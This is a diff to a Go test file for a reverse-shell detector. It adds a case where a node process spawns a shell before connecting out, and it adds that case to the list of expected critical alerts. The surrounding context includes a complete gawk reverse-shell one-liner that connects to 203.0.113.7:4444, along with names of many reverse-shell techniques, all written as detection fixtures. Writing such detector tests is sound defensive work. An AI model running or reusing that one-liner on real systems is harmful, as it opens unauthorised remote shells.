@@ -133,6 +133,10 @@ func stories() map[string]*detecttest.Story {
 		s.Connect(p, evil)
 		s.Exec(p, "/usr/bin/dash=/bin/sh", detecttest.Unix(71, 0), detecttest.Unix(72, 1), detecttest.Unix(73, 2))
 	})
+	code("node-shell-first", "/usr/bin/node /tmp/s.js", func(s *detecttest.Story, p *bollwerk.Process) {
+		s.Exec(p, "/usr/bin/dash=/bin/sh", detecttest.Unix(71, 0), detecttest.Unix(72, 1), detecttest.Unix(73, 2))
+		s.Connect(p, evil)
+	})
 	code("awk", `/usr/bin/gawk=awk 'BEGIN {s = "/inet/tcp/0/203.0.113.7/4444"; while(42) { do{ printf "shell>" |& s; s |& getline c; if(c){ while ((c |& getline) > 0) print $0 |& s; close(c); } } while(c != "exit") close(s); }}'`, func(s *detecttest.Story, p *bollwerk.Process) {
 		s.Connect(p, evil)
 		s.Exec(p, "/usr/bin/dash=sh -c id", detecttest.Out(s.Pipe()))
@@ -263,7 +267,7 @@ func TestContract(t *testing.T) {
 		"attack-bind-python":     {Severity: bollwerk.SeverityCritical, Message: "connected to 10.1.2.3:31337"},
 		"attack-python-dup2":     {Severity: bollwerk.SeverityCritical, Mode: "enforce"},
 	}
-	for _, n := range []string{"bash-dev-tcp", "mkfifo-nc", "renamed-relay", "openssl", "two-telnets", "python-pty", "python-file", "perl", "ruby", "php", "node", "node-file", "awk", "lua", "nc-e", "ncat-exec", "busybox-nc", "socat-pty", "socat-file", "python-encoded"} {
+	for _, n := range []string{"bash-dev-tcp", "mkfifo-nc", "renamed-relay", "openssl", "two-telnets", "python-pty", "python-file", "perl", "ruby", "php", "node", "node-file", "node-shell-first", "awk", "lua", "nc-e", "ncat-exec", "busybox-nc", "socat-pty", "socat-file", "python-encoded"} {
 		want["attack-"+n] = critical
 	}
 	detecttest.Test(t, detecttest.Contract{New: func() detect.Detector { return reverseshell.New(reverseshell.Config{}) }, Want: want})
